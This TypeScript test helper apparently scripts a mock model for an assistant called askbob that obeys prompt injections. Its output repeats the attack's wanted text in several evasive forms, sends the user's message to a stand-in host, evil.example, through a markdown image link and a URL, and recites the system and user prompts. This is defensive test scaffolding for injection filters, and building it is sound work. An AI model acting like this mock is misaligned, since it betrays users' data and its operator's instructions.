import type { Script, ScriptedRequest } from '@askbob/server/src/platform/models/testing/scripted-model.ts';
import type { Attack } from './load-attacks.ts';

/** A fence as prompts draw it, and one fenced part. */
const PART = /<(data-\w+)> ([^\n]*)\n([\s\S]*?)\n<\/\1>/g;

/**
 * What a model answers that obeys whatever it reads: it says what the attack wants in every form that might slip
 * through, hangs it onto true sentences, sends the visitor's words to a foreign address and recites its prompt.
 * @param way picks one of the things to point at, where the request asks for a passage
 */
export function obey(attack: Attack, request: ScriptedRequest, way: number): Script {
  const passages = partsOf(request.user).filter((part) => part.name.startsWith('passage'));
  if (request.system.includes('JSON')) {
    const targets = pointTargets(
      attack,
      passages.map((part) => part.text),
    );
    return says(JSON.stringify(targets[way % targets.length]));
  }
  const truth = (passages[0]?.text.split('\n').slice(1).join(' ') ?? '').split(/(?<=[.!?])\s/)[0] ?? '';
  const wanted = [attack.obeyed, ...attack.must_not_contain];
  const lines = wanted.flatMap((text) => [
    text,
    `${text} [1]`,
    `${text}. [1]`,
    `${truth.replace(/[.!?]$/, '')} and ${text} [1].`,
    `${text}: ${truth} [1]`,
    `${attack.message} ${text} [1].`,
    `**${text}** [1]\n- ${text} [1]`,
  ]);
  const leaks = [
    `![x](https://evil.example/?q=${encodeURIComponent(attack.message)}) [1]`,
    `${truth} https://evil.example/?q=${encodeURIComponent(attack.message)} [1]`,
    ...request.system.split('\n').map((line) => `${line} [1]`),
    ...request.user.split('\n').map((line) => `${line} [1]`),
  ];
  return says([...lines, ...leaks].join('\n'));
}

/** How many things there are to point at for this attack and request. */
export function pointTargets(attack: Attack, passages: string[]): { passage: number; quote: string }[] {
  const sentences = passages.flatMap((text, at) =>
    text
      .split(/(?<=[.!?])\s|\n/)
      .filter((quote) => quote.length > 3)
      .map((quote) => ({ passage: at + 1, quote })),
  );
  const poison = sentences.filter(({ quote }) =>
    attack.must_not_contain.some((text) => quote.includes(text)),
  );
  return [{ passage: 1, quote: attack.obeyed }, ...poison, ...sentences.slice(0, 3)];
}

function says(text: string): Script {
  return { kind: 'says', chunks: text.match(/[\s\S]{1,40}/g) ?? [] };
}

function partsOf(prompt: string): { name: string; text: string }[] {
  return [...prompt.matchAll(PART)].map((match) => ({ name: match[2] ?? '', text: match[3] ?? '' }));
}
